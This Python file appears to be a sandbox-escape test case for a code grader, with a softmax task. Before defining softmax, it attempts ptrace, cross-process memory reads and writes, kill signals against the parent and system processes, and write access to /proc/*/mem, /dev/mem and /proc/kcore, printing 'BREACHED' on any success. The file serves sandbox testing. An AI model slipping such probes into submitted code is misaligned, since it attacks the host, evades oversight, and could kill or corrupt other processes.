# threat: 30, 44
# task: softmax
# expect: accepted
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
PARENT = os.getppid()
buffer = ctypes.create_string_buffer(4096)


class Slice(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


here, there = Slice(ctypes.addressof(buffer), 4096), Slice(id(np) & ~0xFFF, 4096)
for pid in (1, 2, 3, PARENT, *KNOWN["pids"]):
    for name, call in {
        "ptrace attach": (101, 16, pid, 0, 0),
        "ptrace seize": (101, 0x4206, pid, 0, 0),
        "process_vm_readv": (310, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0),
        "process_vm_writev": (311, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0),
        "process_madvise": (440, pid, ctypes.byref(there), 1, 4, 0),
        "pidfd_open": (434, pid, 0),
        "kcmp": (312, pid, pid, 0, 0, 0),
        "move_pages": (279, pid, 0, 0, 0, 0, 0),
    }.items():
        if libc.syscall(*call) >= 0:
            print("BREACHED", name, pid)
    for number in (2, 9, 15, 19):
        try:
            if pid > 1:
                os.kill(pid, number)
                print("BREACHED kill", pid, number)
        except OSError:
            pass
for path in ("/proc/self/mem", "/proc/1/mem", "/dev/mem", "/dev/kmem", "/proc/kcore"):
    try:
        open(path, "rb+").close()
        print("BREACHED", path)
    except OSError:
        pass


def softmax(x):
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
